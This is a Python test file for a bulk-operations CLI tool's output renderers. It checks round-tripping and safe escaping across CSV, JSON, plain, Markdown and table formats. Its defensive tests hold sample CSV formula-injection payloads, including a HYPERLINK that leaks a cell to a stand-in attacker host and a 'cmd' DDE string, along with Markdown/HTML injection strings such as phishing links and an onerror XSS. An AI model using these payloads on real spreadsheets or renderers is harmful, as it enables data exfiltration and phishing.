"""Every output format on the same awkward records; each parses back to the same values."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from bulkctl.errors import UsageError
from bulkctl.output.render import (
    BULK_ALL_FIELDS,
    BULK_FIELDS,
    BULK_TABLE_FIELDS,
    FORMATS,
    RenderOptions,
    human_duration,
    iso_utc,
    pick_fields,
    render,
    short_payload,
    text_value,
    unescape_plain,
)
from bulkctl.safetext import safe_text

AWKWARD: list[dict[str, Any]] = [
    {
        "bulkId": "1",
        "status": "RUNNING",
        "operation": '/transfers, "quoted"',
        "submittedItemsCount": 5000,
        "mode": "ON_FAILURE_STOP",
        "executionStart": 1_700_000_000_123,
        "executionFinish": None,
    },
    {
        "bulkId": "2",
        "status": "WEIRD_NEW_STATUS",
        "operation": "tab\there\nnewline\r\nand \\ backslash | pipe",
        "submittedItemsCount": -3,
        "executionStart": -1,
        "executionFinish": 10**20,
        "extra": {"x": [1]},
    },
    {"bulkId": "3", "status": None, "operation": "ünïcødé ✓ 中文 [bold]markup[/bold]"},
    {},
]
FIELDS = list(BULK_FIELDS)


def rendered(fmt: str, records: list[dict[str, Any]] = AWKWARD, **kwargs: Any) -> str:
    out = io.StringIO()
    render(
        records,
        RenderOptions(fmt=fmt, fields=kwargs.pop("fields", FIELDS), now=1_700_000_100.0, **kwargs),
        out,
    )
    return out.getvalue()


def expected_cells(record: dict[str, Any]) -> list[str]:
    return [text_value(f, record.get(f.name)) for f in FIELDS]


def test_plain_parses_back_to_the_same_values() -> None:
    lines = rendered("plain").split("\n")
    assert lines[-1] == ""
    header, *rows = lines[:-1]
    assert header.split("\t") == [f.name for f in FIELDS]
    assert len(rows) == len(AWKWARD)
    for row, record in zip(rows, AWKWARD, strict=True):
        assert [unescape_plain(c) for c in row.split("\t")] == expected_cells(record)


def test_csv_parses_back_with_the_csv_module() -> None:
    rows = list(csv.reader(io.StringIO(rendered("csv"), newline="")))
    assert rows[0] == [f.name for f in FIELDS]
    assert rows[1:] == [expected_cells(r) for r in AWKWARD]


def test_json_and_jsonl_keep_raw_values() -> None:
    whole = json.loads(rendered("json", whole_objects=True))
    assert whole == AWKWARD
    lines = rendered(
        "jsonl", fields=pick_fields("bulkId,operation", BULK_ALL_FIELDS, BULK_FIELDS)
    ).splitlines()
    assert [json.loads(line) for line in lines] == [
        {"bulkId": r.get("bulkId"), "operation": r.get("operation")} for r in AWKWARD
    ]


def test_markdown_rows_keep_their_columns() -> None:
    lines = rendered("markdown").splitlines()
    assert len(lines) == 2 + len(AWKWARD)
    for line in lines:
        unescaped_pipes = line.replace("\\|", "").count("|")
        assert unescaped_pipes == len(FIELDS) + 1
    assert "<br>" in lines[3]


def test_table_shows_unknown_statuses_and_does_not_interpret_markup() -> None:
    text = rendered("table", fields=list(BULK_TABLE_FIELDS), color=True)
    assert "WEIRD_NEW_STATUS" in text
    assert "[bold]markup[/bold]" in text
    assert "5,000" in text


def test_no_color_means_no_escape_codes() -> None:
    assert "\x1b[" not in rendered("table", fields=list(BULK_TABLE_FIELDS), color=False)


def test_no_header() -> None:
    assert rendered("plain", header=False).splitlines()[0].startswith("1\t")
    assert rendered("csv", header=False).splitlines()[0].startswith("1,")


def test_unknown_field_lists_valid_ones() -> None:
    with pytest.raises(UsageError) as caught:
        pick_fields("bulkId,colour", BULK_ALL_FIELDS, BULK_FIELDS)
    assert "colour" in caught.value.message
    assert "submittedItemsCount" in (caught.value.hint or "")


def test_field_names_are_case_insensitive_and_keep_order() -> None:
    assert [f.name for f in pick_fields("STATUS,bulkid", BULK_ALL_FIELDS, BULK_FIELDS)] == [
        "status",
        "bulkId",
    ]


def test_times() -> None:
    assert iso_utc(0) == "1970-01-01T00:00:00.000Z"
    assert iso_utc(-1) == "1969-12-31T23:59:59.999Z"  # a millisecond before, not after
    assert iso_utc(-62_135_510_400_000) == "0001-01-02T00:00:00.000Z"  # four digits of year
    assert iso_utc(10**20) is None
    assert iso_utc("soon") is None
    assert human_duration(3725) == "1h 02m"
    assert human_duration(None) == ""


def test_short_payload_prefers_the_error() -> None:
    assert short_payload(
        '{"errorCode": "FUNDS_INSUFFICIENT", "message": "Funds insufficient"}'
    ) == ("FUNDS_INSUFFICIENT: Funds insufficient")
    assert short_payload("not json at all") == "not json at all"
    assert len(short_payload("x" * 500)) == 60


scalars = st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text()
values = st.recursive(
    scalars,
    lambda c: st.lists(c, max_size=3) | st.dictionaries(st.text(max_size=5), c, max_size=3),
    max_leaves=8,
)
records = st.lists(
    st.fixed_dictionaries(
        {}, optional={f.name: values for f in BULK_ALL_FIELDS} | {"other": values}
    ),
    max_size=5,
)


@given(records, st.sampled_from(FORMATS))
@example([{"bulkId": None, "status": "\t"}, {"operation": "=1+2"}], "csv")  # formulas, pinned
@example([{"bulkId": "\xa0"}], "table")  # server text ending a line is data, not padding
@settings(max_examples=200, deadline=None)
def test_every_renderer_accepts_any_record(recs: list[dict[str, Any]], fmt: str) -> None:
    fields = list(BULK_ALL_FIELDS)
    out = rendered(fmt, recs, fields=fields, whole_objects=fmt in ("json", "jsonl"))
    cells = [[text_value(f, f.value(r, 1_700_000_100.0)) for f in fields] for r in recs]
    if fmt == "json":
        assert json.loads(out) == recs  # whole objects, as the server sent them
    elif fmt == "jsonl":
        assert [json.loads(line) for line in out.split("\n")[:-1]] == recs
    elif fmt == "csv":
        sheet = list(csv.reader(io.StringIO(out, newline="")))

        raw = [[f.value(r, 1_700_000_100.0) for f in fields] for r in recs]

        # tab, LF and CR stay (quoted); every other control character is written as \xHH;
        # server text that starts like a formula gets a leading ' (numbers never do)
        def csv_cell(text: str, value: Any) -> str:
            shown = "".join(
                f"\\x{ord(c):02x}"
                if c not in "\t\n\r" and (ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0)
                else c
                for c in text
            )
            formula = isinstance(value, str) and text.startswith(("=", "+", "-", "@", "\t", "\r"))
            return "'" + shown if formula else shown

        expected = [
            [csv_cell(c, v) for c, v in zip(row, values_, strict=True)]
            for row, values_ in zip(cells, raw, strict=True)
        ]
        assert sheet == [[f.name for f in fields], *expected]
    elif fmt == "plain":
        header, *rows = out.split("\n")[:-1]
        assert header.split("\t") == [f.name for f in fields]
        assert [[unescape_plain(c) for c in row.split("\t")] for row in rows] == cells
    elif fmt == "markdown":
        lines = out.split("\n")[:-1]
        assert len(lines) == 2 + len(recs)
        assert all(line.startswith("| ") and line.endswith(" |") for line in lines)
    else:  # the table, for eyes: a header and one line a record, no trailing space
        lines = out.split("\n")[:-1]
        assert len(lines) == 1 + len(recs) and lines[0].strip()
        assert all(line == line.rstrip(" ") for line in lines)  # no padding at the end
        if any(cells[i][0] for i in range(len(recs))):
            assert lines[0].startswith("BULK ID")


@given(
    st.lists(
        st.dictionaries(st.sampled_from(["bulkId", "operation", "status"]), st.text(), min_size=3),
        max_size=5,
    )
)
@settings(max_examples=200, deadline=None)
def test_plain_and_csv_round_trip_any_text(recs: list[dict[str, Any]]) -> None:
    fields = pick_fields("bulkId,operation,status", BULK_ALL_FIELDS, BULK_FIELDS)
    plain = rendered("plain", recs, fields=fields, header=False)
    back = [[unescape_plain(c) for c in line.split("\t")] for line in plain.split("\n")[:-1]]
    want = [[r["bulkId"], r["operation"], r["status"]] for r in recs]
    assert back == want
    sheet = list(
        csv.reader(io.StringIO(rendered("csv", recs, fields=fields, header=False), newline=""))
    )
    # csv keeps tab, LF and CR (quoted); the other controls come back as their \xHH text, and
    # a cell that starts like a formula with a ' before it
    formula = [[("'" + v if v[:1] in "=+-@\t\r" and v else v) for v in row] for row in want]
    assert sheet == [[safe_text(v, keep="\t\n\r") for v in row] for row in formula]


def test_plain_shows_bidi_and_zero_widths_as_code_points_and_reads_them_back() -> None:
    text = "10\u202e.00\u200b\u2028\ufeff \\u{202e} \\u{zz}"
    fields = pick_fields("operation", BULK_ALL_FIELDS, BULK_FIELDS)
    plain = rendered("plain", [{"operation": text}], fields=fields, header=False)
    assert plain == "10\\u{202e}.00\\u{200b}\\u{2028}\\u{feff} \\\\u{202e} \\\\u{zz}\n"
    assert unescape_plain(plain[:-1]) == text


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda children: st.lists(children, max_size=3) | st.dictionaries(st.text(), children),
    max_leaves=12,
)


@given(st.lists(st.dictionaries(st.text(max_size=8), json_values, max_size=6), max_size=4))
@settings(max_examples=200, deadline=None)
def test_jsonl_lines_are_the_text_json_dumps_gives(recs: list[dict[str, Any]]) -> None:
    # the line encoder is made once (not at each call): the bytes must not change
    from bulkctl.safetext import safe_json

    out = rendered("jsonl", recs, fields=list(BULK_ALL_FIELDS), whole_objects=True)
    assert out == "".join(safe_json(json.dumps(r, ensure_ascii=False)) + "\n" for r in recs)


def test_json_written_element_by_element_is_the_same_document() -> None:
    """``--json`` holds each element's text rather than parsed records (half the memory at
    100,000 records): the bytes must be what one json.dumps of the list gives."""
    from bulkctl.output.formats import _json_element, json_text

    values: list[object] = [
        {"a": 1, "b": [1, {"c": "x\u0085\u007f"}], "d": {}, "e": [], "f": None},
        {"s": "line\nbreak \u00e9 \U0001f600", "n": -1.5},
    ]
    for case in (values, values[:1]):
        document = "[\n" + ",\n".join(_json_element(v) for v in case) + "\n]"
        assert document == json_text(case, indent=2)


# -- formats read by other programs: spreadsheets and Markdown renderers ------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS, ids=["=", "+", "-", "@", "tab", "CR"])
def test_csv_cells_of_server_text_that_start_a_formula_get_a_quote(text: str) -> None:
    record = {
        "bulkId": "1100000000295353",
        "status": text,
        "operation": text,
        "submittedItemsCount": -5,  # a number: never changed, whatever its sign
        "executionStart": -1000,
    }
    fields = pick_fields(
        "bulkId,status,operation,submittedItemsCount,executionStart", BULK_ALL_FIELDS, BULK_FIELDS
    )
    out = io.StringIO()
    render([record], RenderOptions(fmt="csv", fields=fields), out)
    header, row = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert header == [f.name for f in fields]
    assert row == ["1100000000295353", "'" + text, "'" + text, "-5", "1969-12-31T23:59:59.000Z"]


@pytest.mark.parametrize("text", ["/transfers", "a=b", " =1", "ON_FAILURE_STOP", "", "'quoted"])
def test_csv_leaves_other_text_as_it_is(text: str) -> None:
    out = io.StringIO()
    fields = pick_fields("operation", BULK_ALL_FIELDS, BULK_FIELDS)
    render([{"operation": text}], RenderOptions(fmt="csv", fields=fields, header=False), out)
    assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [[text]]


MARKDOWN_ATTACKS = [
    "[APPROVE HERE](https://evil.example/approve)",
    "![pixel](https://evil.example/p.png)",
    '<img src="https://evil.example/p.png" onerror=alert(1)>',
    "<a href='https://evil.example'>ok</a>",
    "<https://evil.example/auto>",
    "see https://evil.example/bare or www.evil.example or ceo@evil.example",
    "**urgent** _now_ *really* ~~refund~~ `code`",
    "a | b || c",
    "&lt;script&gt; &#x3C;b&#x3E; &amp;",
    "[ref][1] and [1]: https://evil.example",
    "\\[escaped\\] \\",
    "$x^2$ :shipit: @octocat #1",
]
BLOCK_ATTACKS = ["# heading", "> quoted", "- item", "1. item", "1) item", "---", "    code", "=="]
# what Markdown would make of server text if it were not escaped
ACTIVE = {
    "link_open",
    "image",
    "html_inline",
    "html_block",
    "em_open",
    "strong_open",
    "s_open",
    "code_inline",
    "code_block",
    "heading_open",
    "blockquote_open",
    "bullet_list_open",
    "ordered_list_open",
    "hr",
    "math_inline",
}


def markdown_tokens(source: str) -> list[Any]:
    """Every token (inline ones too) that a GitHub-like Markdown renderer reads in
    ``source``: tables, strikethrough, raw HTML and bare links (linkify) all on."""
    from markdown_it import MarkdownIt

    flat = []
    for token in MarkdownIt("gfm-like").parse(source):
        flat.append(token)
        flat.extend(token.children or [])
    return flat


def read_as_text(tokens: list[Any]) -> str:
    """The text a reader sees; our own ``<br>`` reads as a newline."""
    return "".join(
        "\n" if t.type == "html_inline" and t.content == "<br>" else t.content
        for t in tokens
        if t.type in ("text", "html_inline")
    )


def active(tokens: list[Any]) -> list[str]:
    return [
        t.type
        for t in tokens
        if t.type in ACTIVE and not (t.type == "html_inline" and t.content == "<br>")
    ]


@pytest.mark.parametrize("text", [*MARKDOWN_ATTACKS, "two\nlines"])
def test_markdown_tables_render_server_text_as_text(text: str) -> None:
    fields = pick_fields("bulkId,operation,submittedItemsCount", BULK_ALL_FIELDS, BULK_FIELDS)
    records = [{"bulkId": "5", "operation": text, "submittedItemsCount": -7}]
    out = io.StringIO()
    render(records, RenderOptions(fmt="markdown", fields=fields), out)
    tokens = markdown_tokens(out.getvalue())
    assert active(tokens) == []
    cells = [t for t in tokens if t.type in ("th_open", "td_open")]
    assert len(cells) == 6, out.getvalue()  # no cell added or lost: no table break
    inline = [t for t in tokens if t.type == "inline"]
    assert [read_as_text(t.children) for t in inline[3:]] == ["5", text, "-7"]


@pytest.mark.parametrize("text", [*MARKDOWN_ATTACKS, *BLOCK_ATTACKS])
def test_escaped_markdown_is_text_on_a_line_of_its_own_too(text: str) -> None:
    from bulkctl.output.render import escape_markdown

    tokens = markdown_tokens(escape_markdown(text) + "\n")
    assert active(tokens) == []
    assert [t.type for t in tokens if t.nesting == 1] == ["paragraph_open"]
    assert read_as_text(tokens) == text


@given(st.text(alphabet=st.characters(codec="ascii"), max_size=40))
@settings(max_examples=300, deadline=None)
def test_any_ascii_server_text_renders_as_itself(text: str) -> None:
    from bulkctl.output.render import escape_markdown

    tokens = markdown_tokens("| a |\n| --- |\n| " + escape_markdown(text) + " |\n")
    assert active(tokens) == []
    cells = [t for t in tokens if t.type == "inline"]
    assert len(cells) == 2
    # newlines (CR, LF, CRLF) read as one newline; other controls as their \xHH text
    lines = text.replace("\r\n", "\n").replace("\r", "\n")
    assert read_as_text(cells[1].children) == safe_text(lines, keep="\n")


class _CountingRaw(io.RawIOBase):
    """A file that records each write it is given (one write is one system call on a pipe)."""

    def __init__(self) -> None:
        self.writes: list[bytes] = []

    def writable(self) -> bool:
        return True

    def write(self, data: Any) -> int:
        self.writes.append(bytes(data))
        return len(data)


def test_lines_into_a_write_through_stream_go_out_a_page_at_a_time() -> None:
    # PYTHONUNBUFFERED makes stdout write through: one system call a line, unless render
    # buffers until the pager's flush at each page's end (two pages here: two writes)
    raw = _CountingRaw()
    out = io.TextIOWrapper(raw, encoding="utf-8", write_through=True)

    def pages() -> Any:
        for index in range(5):
            yield {"bulkId": str(index)}
            if index == 2:
                out.flush()  # what the pager's on_page does when a page's records are out

    written = render(pages(), RenderOptions(fmt="jsonl", fields=(), whole_objects=True), out)
    assert written == 5
    assert raw.writes == [
        b'{"bulkId": "0"}\n{"bulkId": "1"}\n{"bulkId": "2"}\n',
        b'{"bulkId": "3"}\n{"bulkId": "4"}\n',
    ]
    assert out.write_through  # as it was: later messages still go out at once
